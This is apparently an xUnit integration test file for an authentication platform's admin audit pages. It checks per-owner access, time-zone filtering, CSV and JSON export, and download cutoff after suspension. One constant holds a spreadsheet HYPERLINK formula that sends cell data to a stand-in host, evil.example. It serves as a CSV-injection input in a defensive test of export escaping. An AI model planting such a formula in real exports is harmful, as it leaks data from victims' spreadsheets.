using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using System.Text.RegularExpressions;
using AuthPlatform.Contracts;
using AuthPlatform.Data.Admin;
using AuthPlatform.Data.Auth;
using AuthPlatform.IntegrationTests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace AuthPlatform.IntegrationTests.Admin;

/// <summary>Reading the audit by its page, and taking it away.</summary>
public sealed class AuditPageTests(AuthPlatformFixture platform)
{
    private const int MoreThanAreReadAtOnce = 5001;
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1)";

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Change_ByAnAdministrator_IsShownBeforeAndAfter()
    {
        var application = await platform.CreateApplicationAsync(_ => { }, Cancellation);
        var account = await AdminAccount.CreateAsync(platform, Cancellation, AdministratorRoles.Administrator);
        using var browser = await AdminBrowser.OpenAsync(platform, Cancellation);
        await account.SignInAsync(browser, Cancellation);
        await using (var database = await platform.OpenAuthDatabaseAsync(Cancellation))
        {
            var changed = await database.Applications.SingleAsync(a => a.ClientId == application.ClientId, Cancellation);
            changed.AccessLifetimeSeconds = 120;
            changed.Audience = "<b>new</b>";
            database.AuditChanges(changed, account.UserName, TimeProvider.System.GetUtcNow());
            await database.SaveChangesAsync(Cancellation);
        }

        foreach (var search in new[] { $"app={application.ClientId}", $"actor={account.UserName}", $"actor={account.UserName.ToUpperInvariant()}", $"actor={account.UserName}&kind=application_changed&size=10" })
        {
            var page = await browser.GetAsync("/admin/audit?" + search, Cancellation);
            Assert.Matches("access_lifetime_seconds.*300.*→.*120", page.Text.ReplaceLineEndings(" "));
            Assert.Contains("&lt;b&gt;new&lt;/b&gt;", page.Html, StringComparison.Ordinal);
        }

        Assert.Contains("Nothing fits", (await browser.GetAsync($"/admin/audit?actor={account.UserName}&kind=key_revoked", Cancellation)).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Audit_OfAnotherOwner_IsNeitherShownNorGiven()
    {
        var (mine, theirs) = (await platform.CreateApplicationAsync(_ => { }, Cancellation), await platform.CreateApplicationAsync(_ => { }, Cancellation));
        await AddEventsAsync(mine, 12, "mine");
        await AddEventsAsync(theirs, 3, "theirs");
        var owner = await AdminAccount.CreateAsync(platform, Cancellation);
        await owner.OwnAsync(platform, mine, Cancellation);
        using var browser = await AdminBrowser.OpenAsync(platform, Cancellation);
        await owner.SignInAsync(browser, Cancellation);

        foreach (var path in new[] { "/admin/audit", "/admin/audit?handler=csv", "/admin/audit?handler=json", "/admin/audit?address=198.51.100.77", $"/admin/audit?app={theirs.ClientId}", $"/admin/audit?handler=json&app={theirs.ClientId}" })
        {
            var page = await browser.GetAsync(path, Cancellation);
            Assert.Equal((path, HttpStatusCode.OK), (path, page.Status));
            Assert.Equal(!path.Contains(theirs.ClientId, StringComparison.Ordinal), page.Html.Contains("mine 3", StringComparison.Ordinal));
            Assert.DoesNotContain("theirs 1", page.Html, StringComparison.Ordinal);
        }

        var first = await browser.GetAsync("/admin/audit?size=10", Cancellation);
        var next = WebUtility.HtmlDecode(Regex.Match(first.Html, """rel="next" href="([^"]+)""").Groups[1].Value);
        Assert.Equal(["mine 2", "mine 1"], Users(await browser.GetAsync(next, Cancellation)));
    }

    [Fact]
    public async Task Download_OfHostileText_IsNoFormulaAndAuditedItself()
    {
        var application = await platform.CreateApplicationAsync(_ => { }, Cancellation);
        await platform.IssueAsync(application, Formula, Cancellation);
        await AddEventsAsync(application, 1, "+1");
        var account = await AdminAccount.CreateAsync(platform, Cancellation, AdministratorRoles.Auditor);
        using var browser = await AdminBrowser.OpenAsync(platform, Cancellation);
        await account.SignInAsync(browser, Cancellation);

        AdminPage csv = null!;
        // Token API's events are written in the background.
        await Eventually.TrueAsync(
            async () => (csv = await browser.GetAsync($"/admin/audit?handler=csv&app={application.ClientId}", Cancellation)).Html.Contains("HYPERLINK", StringComparison.Ordinal),
            Cancellation);

        Assert.Equal("attachment; filename=\"audit.csv\"", csv.Headers["Content-Disposition"]);
        Assert.Contains(",\"'=HYPERLINK(\"\"http", csv.Html, StringComparison.Ordinal);
        Assert.Contains(",\"'+1 1\",", csv.Html, StringComparison.Ordinal);
        Assert.DoesNotMatch("(^|[,\"])[=+@]", csv.Html);

        var json = JsonDocument.Parse((await browser.GetAsync($"/admin/audit?handler=json&app={application.ClientId}", Cancellation)).Html).RootElement;
        Assert.Contains(json.EnumerateArray(), e => e.GetProperty("unique_key").GetString() == Formula && e.GetProperty("kind").GetString() == AuditKinds.Issued);
        Assert.Contains("Audit downloaded", (await browser.GetAsync($"/admin/audit?actor={account.UserName}", Cancellation)).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Audit_BetweenTwoTimes_IsThatOfTheAdministratorsZone()
    {
        var application = await platform.CreateApplicationAsync(_ => { }, Cancellation);
        // The audit keeps no event of longer ago than its retention.
        var noon = new DateTimeOffset(TimeProvider.System.GetUtcNow().UtcDateTime.Date.AddDays(-1).AddHours(12), TimeSpan.Zero);
        await AddEventsAsync(application, 1, "noon", noon);
        using var browser = await AdminAccount.SignInAsync(platform, Cancellation, AdministratorRoles.Auditor);
        browser.Cookies["__Host-authplatform-zone"] = "Asia/Seoul";

        Assert.Single(await UsersInMinuteAsync("21:00"));
        Assert.Empty(await UsersInMinuteAsync("12:00"));

        async Task<List<string>> UsersInMinuteAsync(string time) => Users(await browser.GetAsync(
            string.Create(CultureInfo.InvariantCulture, $"/admin/audit?app={application.ClientId}&from={noon:yyyy-MM-dd}T{time}&to={noon:yyyy-MM-dd}T{time}:59"), Cancellation));
    }

    /// <summary>The browser takes a file as slowly as it likes, and does not ask anew: what is not sent yet is not for somebody who was shut out meanwhile.</summary>
    [Fact]
    public async Task Download_BySomebodySuspendedMeanwhile_EndsBeforeItIsWhole()
    {
        var application = await platform.CreateApplicationAsync(_ => { }, Cancellation);
        var account = await AdminAccount.CreateAsync(platform, Cancellation, AdministratorRoles.Auditor);
        using var browser = await AdminBrowser.OpenAsync(platform, Cancellation);
        await account.SignInAsync(browser, Cancellation);
        using var http = ConnectNarrowly();
        using var response = await BeginLongDownloadAsync(http, browser, application);

        await using var database = await platform.OpenAuthDatabaseAsync(Cancellation);
        await database.Administrators.Where(a => a.Id == account.Id).ExecuteUpdateAsync(set => set.SetProperty(a => a.SuspendedAt, TimeProvider.System.GetUtcNow()), Cancellation);

        await using var file = await response.Content.ReadAsStreamAsync(Cancellation);
        await Assert.ThrowsAnyAsync<IOException>(() => file.CopyToAsync(Stream.Null, Cancellation));
    }

    /// <summary>The session goes on, under another id.</summary>
    [Fact]
    public async Task Download_BySomebodyWhoProvesAgainMeanwhile_IsWhole()
    {
        var application = await platform.CreateApplicationAsync(_ => { }, Cancellation);
        var account = await AdminAccount.CreateAsync(platform, Cancellation, AdministratorRoles.Auditor);
        using var browser = await AdminBrowser.OpenAsync(platform, Cancellation);
        await account.SignInAsync(browser, Cancellation);
        using var http = ConnectNarrowly();
        using var response = await BeginLongDownloadAsync(http, browser, application);

        var confirmed = await browser.FillAsync("/admin/account/confirm", Cancellation, ("Code", account.NextCode()));

        Assert.Equal("/admin/", confirmed.Location);
        var file = await response.Content.ReadAsStringAsync(Cancellation);
        Assert.Equal(MoreThanAreReadAtOnce, Regex.Count(file, "filler"));
    }

    private HttpClient ConnectNarrowly() => new(new SocketsHttpHandler
    {
        UseCookies = false,
        ConnectCallback = async (context, cancellationToken) =>
        {
            var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { ReceiveBufferSize = 16 * 1024 };
            await socket.ConnectAsync(context.DnsEndPoint, cancellationToken);
            return new NetworkStream(socket, ownsSocket: true);
        },
    })
    {
        BaseAddress = platform.App.GetEndpoint(ResourceNames.AdminWeb),
    };

    /// <summary>Of more bytes than lie on the way: the rest is read when they are taken.</summary>
    private async Task<HttpResponseMessage> BeginLongDownloadAsync(HttpClient http, AdminBrowser browser, TestApplication application)
    {
        await using var database = await platform.OpenAuthDatabaseAsync(Cancellation);
        await database.Database.ExecuteSqlAsync(
            $"""
            INSERT INTO audit_events (occurred_at, id, application_id, client_id, kind, details)
            SELECT now(), gen_random_uuid(), a.id, a.client_id, 'issued', jsonb_build_object('filler', repeat('x', 2000))
            FROM applications a CROSS JOIN generate_series(1, {MoreThanAreReadAtOnce}) WHERE a.client_id = {application.ClientId}
            """,
            Cancellation);
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/admin/audit?handler=csv&app={application.ClientId}");
        request.Headers.Add("Cookie", string.Join("; ", browser.Cookies.Select(cookie => $"{cookie.Key}={cookie.Value}")));
        var response = await http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, Cancellation);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return response;
    }

    private static List<string> Users(AdminPage page) => [.. Regex.Matches(page.Html, """href="/admin/sessions\?user=[^"]*">([^<]+)</a>""").Select(m => WebUtility.HtmlDecode(m.Groups[1].Value))];

    private async Task AddEventsAsync(TestApplication application, int count, string user, DateTimeOffset? at = null)
    {
        await using var database = await platform.OpenAuthDatabaseAsync(Cancellation);
        var id = await database.Applications.Where(a => a.ClientId == application.ClientId).Select(a => a.Id).SingleAsync(Cancellation);
        var start = at ?? TimeProvider.System.GetUtcNow();
        database.AuditEvents.AddRange(Enumerable.Range(1, count).Select(n => new AuditEvent
        {
            OccurredAt = start.AddMilliseconds(n),
            Id = Guid.CreateVersion7(start),
            ApplicationId = id,
            ClientId = application.ClientId,
            Kind = AuditKinds.Issued,
            UniqueKey = $"{user} {n}",
            Address = "198.51.100.77",
        }));
        await database.SaveChangesAsync(Cancellation);
    }
}
